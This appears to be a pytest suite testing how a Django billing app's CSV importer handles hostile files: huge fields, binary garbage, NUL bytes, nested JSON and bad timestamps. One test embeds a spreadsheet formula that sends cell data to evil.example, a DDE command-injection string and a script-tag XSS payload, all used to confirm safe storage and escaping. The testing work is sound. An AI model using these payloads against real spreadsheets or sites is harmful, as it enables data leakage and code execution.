"""Hostile files: huge fields, binary garbage, NUL bytes, spreadsheet formulas, markup."""

import json
import random
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from apps.billing.models import CostLineItem
from apps.billing.readers import MAX_LINE_CHARS
from tests.billing.conftest import run_import, write_csv
from tests.billing.test_errors import HEADER, focus_row

pytestmark = pytest.mark.django_db


def test_a_huge_field_rejects_its_row_only(tmp_path: Path):
    huge = "x" * (MAX_LINE_CHARS + 10)
    path = write_csv(
        tmp_path / "huge.csv",
        HEADER + focus_row("1.00") + focus_row("2.00", tags=huge) + focus_row("3.00"),
    )

    imp = run_import(path, "focus")

    assert (imp.status, imp.rows_imported, imp.rows_rejected) == ("done", 2, 1)
    assert imp.row_errors[0]["line"] == 3
    assert imp.row_errors[0]["message"] == "line longer than 1,048,576 characters"
    assert imp.totals == {"USD": "4"}


def test_a_long_quoted_field_over_several_lines_is_a_row_error(tmp_path: Path):
    long_resource = '"' + ("y" * 5000 + "\n") * 2 + '"'
    path = write_csv(
        tmp_path / "multi.csv",
        HEADER + focus_row("1.00") + focus_row("2.00", tags=long_resource) + focus_row("3.00"),
    )

    imp = run_import(path, "focus")

    assert (imp.rows_imported, imp.rows_rejected) == (2, 1)
    assert imp.row_errors[0]["message"].startswith("tags are not valid JSON: 'yyyy")


def test_binary_garbage_is_a_file_level_error(tmp_path: Path):
    path = tmp_path / "garbage.csv"
    path.write_bytes(b"\x80" + random.Random(7).randbytes(256 * 1024))

    imp = run_import(path, "focus")

    assert imp.status == "failed"
    assert imp.error_message.startswith(
        "Missing required columns for format 'focus': BilledCost, EffectiveCost, ListCost,"
    )
    assert CostLineItem.objects.count() == 0


def test_garbage_and_nul_bytes_inside_a_valid_file_reject_rows_not_the_file(tmp_path: Path):
    path = tmp_path / "mixed.csv"
    path.write_bytes(
        HEADER.encode()
        + focus_row("1.00").encode()
        + b"\xff\xfe\x00\x81garbage\x00,\x9c\n"
        + focus_row("2.00", tags='"{""team"":""a\x00b""}"').encode()
        + focus_row("3.00").encode()
    )

    imp = run_import(path, "focus")

    assert (imp.status, imp.rows_imported, imp.rows_rejected) == ("done", 3, 1)
    assert imp.row_errors[0]["message"] == "has 2 fields; the header has 13"
    # NUL cannot be stored by PostgreSQL: it is replaced, visibly, not silently dropped.
    assert CostLineItem.objects.get(billed_cost=Decimal("2.00")).tags == {"team": "a\ufffdb"}


def test_formulas_and_markup_are_stored_verbatim_and_shown_escaped(tmp_path: Path, client, finops):
    formula = '=HYPERLINK("http://evil.example/"&A1,"click")'
    injection = "+cmd|' /C calc'!A0"
    markup = "<script>alert(1)</script>"
    path = write_csv(
        tmp_path / "evil.csv",
        HEADER.replace("ServiceName,Tags", "ServiceName,Tags,ResourceId").rstrip("\n")
        + "\n"
        + focus_row("1.00", tags=f'"{{""team"":""{markup}""}}"').rstrip("\n")
        + f',"{formula.replace(chr(34), chr(34) * 2)}"\n'
        + focus_row("2.00").rstrip("\n")
        + f",{injection}\n"
        + focus_row(markup).rstrip("\n")
        + ",@SUM(1+1)\n",
    )

    imp = run_import(path, "focus")

    assert (imp.rows_imported, imp.rows_rejected) == (2, 1)
    stored = dict(CostLineItem.objects.values_list("billed_cost", "resource_id"))
    assert stored == {Decimal("1.00"): formula, Decimal("2.00"): injection}
    assert CostLineItem.objects.get(billed_cost=1).tags == {"team": markup}
    client.force_login(finops)
    page = client.get(reverse("billing:import", args=[imp.pk])).content.decode()
    assert "<script>alert" not in page
    assert "not a decimal number: &#x27;&lt;script&gt;alert(1)&lt;/script&gt;&#x27;" in page


def test_tabs_newlines_backslashes_and_unicode_survive_copy_verbatim(tmp_path: Path):
    resource = 'C:\\temp\\n\tx\r\ny "quoted" ünïcødé ✓ \\N'
    tags = {"path": "a\\b\tc\nd", "emoji": "🚀", "empty": "", "null-ish": "\\N"}
    path = write_csv(
        tmp_path / "escapes.csv",
        HEADER.replace("ServiceName,Tags", "ServiceName,Tags,ResourceId")
        + focus_row("1.00", tags='"' + json.dumps(tags).replace('"', '""') + '"').rstrip("\n")
        + ',"'
        + resource.replace('"', '""')
        + '"\n'
        + focus_row("2.00", tags='"{""bad"":""\\ud800""}"').rstrip("\n")
        + ",r2\n",
    )

    imp = run_import(path, "focus")

    assert (imp.rows_imported, imp.rows_rejected) == (1, 1)
    assert imp.row_errors[0]["column"] == "Tags"
    row = CostLineItem.objects.get()
    assert row.resource_id == resource.strip()
    assert row.tags == tags


def test_deeply_nested_json_and_timestamps_out_of_range_are_row_errors(tmp_path: Path):
    deep = "[" * 15_000 + "]" * 15_000
    path = write_csv(
        tmp_path / "deep.csv",
        HEADER
        + focus_row("1.00", tags=deep)
        + focus_row("2.00", charge="2026-10-02T00:00:00Z,0001-01-01T00:00:00+01:00")
        + focus_row("3.00", charge="2026-10-02T00:00:00Z,2026-10-01T25:00:00Z")
        + focus_row("4.00"),
    )

    imp = run_import(path, "focus")

    assert (imp.status, imp.rows_imported, imp.rows_rejected) == ("done", 1, 3)
    assert [(e["column"], e["message"][:30]) for e in imp.row_errors] == [
        ("Tags", "tags are not valid JSON: '[[[["),
        ("ChargePeriodStart", "timestamp out of range: '0001-"),
        ("ChargePeriodStart", "not a timestamp: '2026-10-01T2"),
    ]
